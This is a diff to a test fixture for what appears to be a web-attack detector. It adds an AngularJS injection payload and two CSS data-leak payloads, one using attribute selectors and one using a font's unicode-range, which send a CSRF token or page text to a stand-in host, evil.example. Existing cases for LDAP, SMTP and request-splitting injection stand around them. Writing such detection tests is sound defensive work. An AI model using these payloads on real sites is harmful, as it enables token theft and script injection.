@@ -247,6 +247,21 @@ export const ATTACKS: DetectorCase[] = [
   q("request splitting", "x\r\n\r\nGET /admin HTTP/1.1", "protocol"),
   q("ldap injection", "*)(uid=*))(|(uid=*", "ldap"),
   q("ldap injection opening nested filters", "admin*)((|userPassword=*)", "ldap"),
+  q(
+    "an AngularJS directive handler in injected markup",
+    "<input autofocus ng-focus=$event.composedPath()|orderBy:'x'>",
+    "941110",
+  ),
+  q(
+    "CSS reading a token by attribute selectors",
+    "red;}input[name=csrf][value^=7]{background-image:url(https://evil.example/leak?p=7)}",
+    "941140",
+  ),
+  q(
+    "CSS reading text by a web font's unicode-range",
+    "@font-face{font-family:x;src:url(//evil.example/?a);unicode-range:U+0061}#secret{font-family:x}",
+    "941140",
+  ),
   q("smtp injection", "a@b.c\r\nRCPT TO:<victim@example.com>", "protocol"),
   { name: "sqlmap user agent", where: "ua", value: "sqlmap/1.7.2#stable (https://sqlmap.org)", hit: ["scanner"] },
   { name: "nikto user agent", where: "ua", value: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)", hit: ["scanner"] },
@@ -434,6 +449,10 @@ export const BENIGN: DetectorCase[] = [
     "https://www.google.com/search?q=union+select",
   ].map((value): DetectorCase => ({ name: `referer ${value}`, where: "referer", value, hit: [] })),
   q("irish name", "O'Brien"),
+  q(
+    "a theme's stylesheet with a background image",
+    '.header{color:#333;background:url("/img/bg.png")} input[type=text]{border:1px solid}',
+  ),
   q(
     "a bundle calling a call's result",
     "return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod)",
